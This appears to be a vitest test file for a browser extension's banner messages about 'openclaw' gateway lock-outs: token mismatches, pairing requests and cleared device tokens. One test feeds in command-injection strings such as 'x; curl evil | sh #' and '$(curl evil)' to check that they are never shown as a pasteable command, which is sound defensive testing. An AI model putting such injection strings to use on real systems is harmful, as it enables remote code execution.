import { describe, expect, it } from 'vitest';
import { bannerHeading, bannerSentences, leadsWithClear, type BannerFacts } from './banner-text';
import { plainText, type Rich } from './command-values';
import { KINDS, TITLES, diagnose, type Lockout, type LockoutKind } from './lockout';
import { parseRelease } from './release';
import { LOCALES, translatorFor } from './test-i18n';

const t = await translatorFor('en');

const FACTS: BannerFacts = { lockouts: [], release: null, deviceToken: 'stored', clearedKeys: [], clearedAutomatically: false, undo: null, sharedTokenInTab: false };

describe('banner text', () => {
  it('has its own heading and sentence for every lock-out', () => {
    const seen = new Set<string>();
    for (const kind of Object.keys(TITLES) as LockoutKind[]) {
      const facts = { ...FACTS, lockouts: [{ kind }] };
      expect(bannerHeading(facts, t)).toBe(TITLES[kind]);
      const [sentence] = bannerSentences(facts, t);
      expect(sentence, kind).toBeTruthy();
      seen.add(plainText(sentence!));
    }
    expect(seen.size).toBe(Object.keys(TITLES).length);
  });

  it('fills in the pairing request id', () => {
    expect(bannerSentences({ ...FACTS, lockouts: [{ kind: 'pairing-required', requestId: 'req-1' }] }, t)[0]).toContainEqual({ code: 'openclaw devices approve req-1' });
  });

  it('says to keep the allowed origins already listed', () => {
    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'origin-not-allowed' }] }, t);
    expect(sentence).toContainEqual({ code: 'gateway.controlUi.allowedOrigins' });
    expect(plainText(sentence!)).toMatch(/keeping the origins already listed/);
  });

  it('explains a stale device token reported as a gateway token mismatch', () => {
    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch' }] }, t);
    expect(plainText(sentence!)).toMatch(/2026\.2\.22 to 2026\.3\.8/);
  });

  it('says what was cleared while the gateway token is still wrong', () => {
    const sentences = bannerSentences({ ...FACTS, lockouts: [{ kind: 'gateway-token-mismatch' }], deviceToken: 'cleared', clearedKeys: ['k'] }, t);
    expect(sentences).toHaveLength(2);
    expect(sentences[1]).toContainEqual({ code: 'k' });
  });
});

const codeSegments = (text: Rich) => text.filter((segment) => typeof segment !== 'string');
const CLEARED: BannerFacts = { ...FACTS, deviceToken: 'cleared', undo: 'available' };

describe('page strings never become formatting in the banner', () => {
  it('a key name with backticks stays one code segment, verbatim', () => {
    const key = 'openclaw.device.auth.v1:ws://x`<b>`y`';
    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: [key] }, t);
    expect(codeSegments(sentence!)).toEqual([
      { code: key },
      { code: 'openclaw gateway auth-token --show' },
      { code: 'gateway.auth.token' },
      { code: 'openclaw config file' },
      { code: 'OPENCLAW_GATEWAY_TOKEN' },
    ]);
  });

  it('each key name is its own code segment, and plain text has no stray backticks', () => {
    const keys = ['a`b', '`', '``', 'c'];
    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: keys, sharedTokenInTab: true }, t);
    expect(codeSegments(sentence!)).toEqual(keys.map((key) => ({ code: key })));
    for (const segment of sentence!) if (typeof segment === 'string') expect(segment).not.toContain('`');
  });

  it('long key names are cut, and a long list is counted', () => {
    const keys = Array.from({ length: 8 }, (_, i) => `openclaw.device.auth.v1:ws://${String(i).repeat(1024 * 128)}`);
    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: keys, sharedTokenInTab: true }, t);
    const shown = codeSegments(sentence!) as { code: string }[];
    expect(shown).toHaveLength(5);
    for (const { code } of shown) expect(code.length).toBeLessThanOrEqual(200);
    expect(plainText(sentence!)).toContain('and 3 more');
    expect(plainText(sentence!).length).toBeLessThan(2000);
  });

  it('only the extension’s own words mark code, for every lock-out', () => {
    for (const kind of Object.keys(TITLES) as LockoutKind[]) {
      for (const deviceToken of ['stored', 'none', 'cleared'] as const) {
        for (const sentence of bannerSentences({ ...FACTS, deviceToken, clearedKeys: ['k`<i>`'], lockouts: [{ kind }] }, t)) {
          for (const segment of sentence) if (typeof segment === 'string') expect(segment, kind).not.toContain('`');
        }
      }
    }
  });
});

describe('page data never becomes a shell command in the banner', () => {
  it.each(['x; curl evil | sh #', '$(curl evil)', '`curl evil`', '--latest', 'r'.repeat(129), 'abc\ndef'])('a hostile request id %j is replaced by <requestId>', (requestId) => {
    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'pairing-required', requestId }] }, t);
    expect(sentence).toContainEqual({ code: 'openclaw devices approve <requestId>' });
    expect(sentence).toContainEqual({ code: 'openclaw devices list' });
    expect(plainText(sentence!)).not.toContain(requestId);
  });
});

describe('diagnose', () => {
  const B = [{ kind: 'gateway-token-mismatch' as const }];
  const B_UI = [{ kind: 'gateway-token-mismatch' as const, hint: 'control-ui' as const }];
  const STALE = { deviceTokenStored: true, sharedTokenHeld: false };
  const A_AS_B = { kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch' };

  it('reads B with the Control UI’s hint, a stored device token and no gateway token as A on an unknown release', () => {
    expect(diagnose(B_UI, STALE)).toEqual([{ ...A_AS_B, hint: 'control-ui' }]);
  });

  it('without a hint (cut, or 3.7+’s generic words) on an unknown release, explains both and marks the reading uncertain', () => {
    expect(diagnose(B, STALE)).toEqual([{ ...A_AS_B, uncertain: true, otherReading: 'gateway-token-mismatch' }]);
  });

  it.each(['cli-remote', 'cli-local', 'client'] as const)('never reads a message with another client’s hint (%s) as the page’s quirk', (hint) => {
    expect(diagnose([{ kind: 'gateway-token-mismatch', hint }], STALE)).toEqual([{ kind: 'gateway-token-mismatch', hint }]);
    expect(diagnose([{ kind: 'gateway-token-mismatch', hint }], STALE, parseRelease('2026.2.26'))).toEqual([{ kind: 'gateway-token-mismatch', hint }]);
  });

  it('never reads the CLI’s refusal in the light of the page', () => {
    expect(diagnose([{ kind: 'gateway-token-mismatch', client: 'cli' }], STALE)).toEqual([{ kind: 'gateway-token-mismatch', client: 'cli' }]);
    expect(diagnose([{ kind: 'device-token-mismatch', client: 'cli' }], { deviceTokenStored: false, sharedTokenHeld: false }, parseRelease('2026.2.19'))).toEqual([
      { kind: 'device-token-mismatch', client: 'cli' },
    ]);
  });

  it.each([
    ['2026.1.24', true],
    ['2026.2.12', true],
    ['2026.2.13', false],
    ['2026.2.21', false],
    ['2026.2.22', true],
    ['2026.3.6', true],
    ['2026.3.8', true],
    ['2026.3.9', false],
    ['2026.4.24', false],
    ['2026.9.6', false],
  ])('B with a stale device token on %s is A: %s', (release, isA) => {
    for (const lockouts of [B, B_UI]) {
      const [read] = diagnose(lockouts, STALE, parseRelease(release));
      expect(read?.kind).toBe(isA ? 'device-token-mismatch' : 'gateway-token-mismatch');
      expect(read?.uncertain).toBeUndefined();
    }
  });

  it('keeps B when the tab holds a gateway token, or no device token is stored', () => {
    expect(diagnose(B, { deviceTokenStored: true, sharedTokenHeld: true })).toEqual(B);
    expect(diagnose(B, { deviceTokenStored: false, sharedTokenHeld: false })).toEqual(B);
  });

  it('reads A with no device token stored as B on 2026.2.17–2.21, as A elsewhere, and as uncertain on an unknown release', () => {
    const A = [{ kind: 'device-token-mismatch' as const }];
    const NONE = { deviceTokenStored: false, sharedTokenHeld: false };
    expect(diagnose(A, NONE, parseRelease('2026.2.19'))).toEqual([{ kind: 'gateway-token-mismatch', reportedAs: 'device-token-mismatch' }]);
    expect(diagnose(A, NONE, parseRelease('2026.9.6'))).toEqual(A);
    expect(diagnose(A, NONE, parseRelease('2026.2.22'))).toEqual(A);
    expect(diagnose(A, NONE)).toEqual([{ kind: 'device-token-mismatch', uncertain: true, otherReading: 'gateway-token-mismatch' }]);
    // With a device token stored it is A, whatever the release.
    expect(diagnose(A, STALE, parseRelease('2026.2.19'))).toEqual(A);
    // A login gate dates the page to 3.x or later: A.
    expect(diagnose([{ kind: 'device-token-mismatch', shownIn: 'login-gate' }], NONE)).toEqual([{ kind: 'device-token-mismatch', shownIn: 'login-gate' }]);
  });

  it('reads the ≤2026.1.30 "connect failed" with a device token stored as A', () => {
    const closed = { kind: 'connect-failed' as const, clientClosed: true as const };
    expect(diagnose([closed], { deviceTokenStored: true, sharedTokenHeld: true })).toEqual([
      { kind: 'device-token-mismatch', reportedAs: 'connect-failed' },
    ]);
    expect(diagnose([closed], { deviceTokenStored: false, sharedTokenHeld: true })).toEqual([closed]);
    expect(diagnose([closed], { deviceTokenStored: true, sharedTokenHeld: false }, parseRelease('2026.4.24'))).toEqual([closed]);
    // "gateway connect failed" (3.7+) says nothing about the device token.
    expect(diagnose([{ kind: 'connect-failed' }], { deviceTokenStored: true, sharedTokenHeld: false })).toEqual([{ kind: 'connect-failed' }]);
  });

  it('drops "connection failed" when another lock-out names the cause', () => {
    expect(diagnose([{ kind: 'connect-failed' }, { kind: 'pairing-required' }], STALE)).toEqual([{ kind: 'pairing-required' }]);
  });
});

// ---------------------------------------------------------------------------------------------
// Every combination: the banner never contradicts its heading and never repeats itself
// ---------------------------------------------------------------------------------------------

const DEVICE_TOKEN_STATES = ['stored', 'none', 'cleared'] as const;
const UNDO_STATES = ['available', 'confirm-overwrite', 'restored', null] as const;
/** Each kind alone, its uncertain and reinterpreted readings, and every pair of kinds. */
const LOCKOUT_SETS: Lockout[][] = (() => {
  const singles: Lockout[] = [
    ...KINDS.map((kind) => ({ kind })),
    { kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch' },
    { kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch', uncertain: true, otherReading: 'gateway-token-mismatch' },
    { kind: 'device-token-mismatch', uncertain: true, otherReading: 'gateway-token-mismatch' },
    { kind: 'device-token-mismatch', reportedAs: 'connect-failed' },
    { kind: 'gateway-token-mismatch', reportedAs: 'device-token-mismatch' },
    { kind: 'connect-failed', clientClosed: true },
    { kind: 'pairing-required', requestId: 'r-42' },
  ];
  const sets: Lockout[][] = [[], ...singles.map((l) => [l])];
  for (let i = 0; i < KINDS.length; i++) for (let j = i + 1; j < KINDS.length; j++) sets.push([{ kind: KINDS[i]! }, { kind: KINDS[j]! }]);
  return sets;
})();

describe.each(DEVICE_TOKEN_STATES)('banner with the device token %s', (deviceToken) => {
  it.each(UNDO_STATES)('undo %s: every set of lock-outs, no sentence twice, no contradiction with the heading', (undo) => {
    let checked = 0;
    for (const lockouts of LOCKOUT_SETS) {
      for (const clearedAutomatically of [true, false]) {
        const facts: BannerFacts = { ...FACTS, lockouts, deviceToken, undo, clearedAutomatically, clearedKeys: deviceToken === 'cleared' ? ['k'] : [] };
        const heading = bannerHeading(facts, t);
        const sentences = bannerSentences(facts, t).map(plainText);
        const label = `${heading} | ${JSON.stringify(lockouts)}`;
        expect(new Set(sentences).size, label).toBe(sentences.length);
        // One sentence per lock-out (two readings of one lock-out are one sentence), plus the clear's.
        expect(sentences.length, label).toBeGreaterThanOrEqual(Math.min(lockouts.length, 1));
        const text = sentences.join(' ');
        // Only a heading that names the device token, or the clear, may call a token stale or say it was cleared as one.
        if (!/Device token mismatch|stale device token|Stale device token cleared/.test(heading)) {
          expect(text, label).not.toMatch(/the stale device token/i);
          expect(text, label).not.toMatch(/Clearing it lets the gateway issue a new one/);
        }
        // A heading that names B alone never says the device token was the problem.
        if (heading === 'Gateway token mismatch') expect(text, label).not.toMatch(/stale device token|device token this browser saved/i);
        // Leading with the clear, the banner gives one step, once.
        if (leadsWithClear(facts)) {
          expect(heading, label).toBe('Stale device token cleared');
          expect(sentences, label).toHaveLength(1);
          expect(text.match(/paste the gateway token/gi)?.length ?? 0, label).toBeLessThanOrEqual(1);
        }
        // The clear is announced only when it happened.
        if (deviceToken !== 'cleared') expect(text, label).not.toMatch(/cleared (the|this page’s)/i);
        // An uncertain reading is not announced as an automatic clear.
        if (lockouts.some((l) => l.uncertain) && deviceToken === 'stored') expect(text, label).toMatch(/nothing was cleared|the next step is the same|Clearing it/);
        checked++;
      }
    }
    expect(checked).toBeGreaterThan(500);
  });
});

describe('the uncertain reading', () => {
  const UNCERTAIN: Lockout = { kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch', uncertain: true, otherReading: 'gateway-token-mismatch' };
  it('names both in the heading and in the sentence, and says nothing was cleared', () => {
    const facts = { ...FACTS, lockouts: [UNCERTAIN] };
    expect(bannerHeading(facts, t)).toBe('Gateway token mismatch or stale device token');
    const [sentence] = bannerSentences(facts, t);
    expect(plainText(sentence!)).toMatch(/nothing was cleared/);
    expect(plainText(sentence!)).toMatch(/First paste the gateway token/);
  });

  it('a clear done before a B shows is told without calling that token stale', () => {
    const sentences = bannerSentences({ ...FACTS, lockouts: [{ kind: 'gateway-token-mismatch' }], deviceToken: 'cleared', clearedKeys: ['k'], undo: 'available', clearedAutomatically: true }, t);
    expect(plainText(sentences[1]!)).toBe('Before this error, the extension cleared this page’s saved device token (k); a backup is kept, and Undo puts it back.');
  });
});

// ---------------------------------------------------------------------------------------------
// After the extension's clear: what was done and the one next step, each said once (issue 11)
// ---------------------------------------------------------------------------------------------

describe('after the extension cleared the device token', () => {
  const AFTER: BannerFacts = { ...FACTS, deviceToken: 'cleared', clearedKeys: ['openclaw.device.auth.v1'], clearedAutomatically: true, undo: 'available', release: '2026.4.24' };
  const PASTE = /paste the gateway token/gi;
  const A = { kind: 'device-token-mismatch' } as const;
  const MISSING = { kind: 'gateway-token-missing' } as const;
  const CLOSED = { kind: 'connect-failed', clientClosed: true } as const;
  const PAIRING = { kind: 'pairing-required', requestId: 'req-7' } as const;
  const B = { kind: 'gateway-token-mismatch' } as const;

  // [what the page shows, expected heading, expected next step (plain text, a fragment), or null: no step besides]
  it.each<[string, Lockout[], Partial<BannerFacts>, string, RegExp]>([
    ['nothing (the page connected)', [], { sharedTokenInTab: true }, 'Stale device token cleared', /reconnects with this tab’s gateway token\.$/],
    ['nothing, and no gateway token in the tab', [], {}, 'Stale device token cleared', /If the dashboard asks for it, paste the gateway token/],
    ['gateway token missing (4.24, 6.11, 9.6 after the clear)', [MISSING], {}, 'Stale device token cleared', /reloaded the page\. Next: paste the gateway token \(.+\) into the login form and click Connect\.$/],
    ['the refusal the clear answered, still on the page, and gateway token missing', [A, MISSING], {}, 'Stale device token cleared', /Next: paste the gateway token/],
    ['"connect failed" closed by the page (≤2026.2.21)', [CLOSED], { release: '2026.1.30' }, 'Stale device token cleared', /Next: paste the gateway token/],
    ['pairing required (the gateway removed the device)', [PAIRING], {}, 'Stale device token cleared', /reloaded the page\. The gateway has not approved this browser yet: .+ then run openclaw devices approve req-7\.$/],
    ['pairing required and gateway token missing: the token first', [MISSING, PAIRING], {}, 'Stale device token cleared', /Next: paste the gateway token/],
    ['the old A, still on the page', [A], {}, 'Stale device token cleared', /If the dashboard asks for it, paste/],
    ['the old A read from "connect failed"', [{ kind: 'device-token-mismatch', reportedAs: 'connect-failed' }], { release: '2026.1.30' }, 'Stale device token cleared', /If the dashboard asks for it/],
  ])('%s: leads with the clear', (_, lockouts, extra, heading, step) => {
    const facts = { ...AFTER, ...extra, lockouts };
    expect(leadsWithClear(facts)).toBe(true);
    expect(bannerHeading(facts, t)).toBe(heading);
    const sentences = bannerSentences(facts, t).map(plainText);
    // One paragraph: what was done, then the step; the Undo button stays (Banner.test.tsx).
    expect(sentences).toHaveLength(1);
    expect(sentences[0]).toMatch(/^The extension cleared the stale device token \(openclaw\.device\.auth\.v1\), kept a backup and reloaded the page\./);
    expect(sentences[0]).toMatch(step);
    expect(sentences[0]!.match(PASTE)?.length ?? 0).toBeLessThanOrEqual(1);
    expect(sentences[0]).not.toMatch(/Before this error/);
  });

  it.each<[string, Lockout[], Partial<BannerFacts>, string]>([
    ['a wrong gateway token (B) is a new problem', [B], {}, 'Gateway token mismatch'],
    ['B beside the old A', [A, B], {}, 'Gateway token mismatch and Device token mismatch'],
    ['B beside gateway token missing', [MISSING, B], {}, 'Gateway token mismatch and Gateway token missing'],
    ['A read from B’s words could be B', [{ kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch' }], {}, 'Device token mismatch'],
    ['too many failed attempts', [{ kind: 'rate-limited' }], {}, 'Too many failed attempts'],
    ['"gateway connect failed" (3.7+) names no cause of ours', [{ kind: 'connect-failed' }], {}, 'Connection failed'],
    ['credentials refused', [{ kind: 'unauthorized' }], {}, 'Credentials refused'],
    ['after Undo the token is back', [MISSING], { undo: 'restored' }, 'Gateway token missing'],
    ['a page that dropped the token itself (9.6): nothing of ours to tell', [MISSING], { deviceToken: 'none', undo: null, clearedKeys: [] }, 'Gateway token missing'],
  ])('%s: keeps its own title', (_, lockouts, extra, heading) => {
    const facts = { ...AFTER, ...extra, lockouts };
    expect(leadsWithClear(facts)).toBe(false);
    expect(bannerHeading(facts, t)).toBe(heading);
    const text = bannerSentences(facts, t).map(plainText).join(' ');
    expect(text.match(PASTE)?.length ?? 0, text).toBeLessThanOrEqual(lockouts.some((l) => l.kind === 'gateway-token-missing') && lockouts.some((l) => l.kind === 'gateway-token-mismatch') ? 2 : 1);
  });

  it('B after the clear: named as B, the clear told once as earlier news, the paste step once', () => {
    const sentences = bannerSentences({ ...AFTER, lockouts: [A, B] }, t).map(plainText);
    expect(sentences[0]).toMatch(/^The gateway token this page sends is not the gateway’s current one: paste/);
    expect(sentences[1]).toBe('The extension cleared the stale device token (openclaw.device.auth.v1), kept a backup and reloaded the page.');
    expect(sentences.join(' ').match(PASTE)).toHaveLength(1);
  });

  it('said in every language: one sentence, the heading of the clear', async () => {
    for (const locale of LOCALES) {
      const tl = await translatorFor(locale);
      const facts = { ...AFTER, lockouts: [MISSING] };
      expect(bannerHeading(facts, tl), locale).toBe(tl('banner.heading.cleared'));
      const [sentence, ...rest] = bannerSentences(facts, tl);
      expect(rest, locale).toEqual([]);
      expect(sentence, locale).toContainEqual({ code: 'openclaw.device.auth.v1' });
      expect(plainText(sentence!), locale).not.toContain(tl('lockout.gatewayTokenMissing'));
    }
  });
});
